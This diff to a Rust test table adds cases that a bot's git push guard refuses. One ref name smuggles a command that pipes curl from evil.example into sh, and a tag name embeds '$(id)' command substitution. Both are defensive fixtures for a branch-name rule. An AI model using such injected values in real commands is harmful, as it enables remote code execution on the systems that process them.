@@ -252,6 +252,19 @@ const REFUSED: &[Refused] = &[
     Refused { before: "git tag v1", push: "git push origin v1", rule: "push.branch", ..BY_NAME },
     Refused {
         before: "first",
+        push: "git push origin 'HEAD:refs/heads/sandbox/x\";curl${IFS}evil.example|sh;#'",
+        rule: "push.new-name",
+        says: &["has '\"'; a new branch or tag of a bot has letters, digits and ._/+@=- only"],
+        ..BY_NAME
+    },
+    Refused {
+        before: "first; git tag 'sandbox/$(id)'",
+        push: "git push origin 'sandbox/$(id)'",
+        rule: "push.new-name",
+        ..BY_NAME
+    },
+    Refused {
+        before: "first",
         push: "git push origin HEAD:refs/notes/x",
         rule: "push.ref",
         says: &["! [remote rejected] HEAD -> refs/notes/x ("],
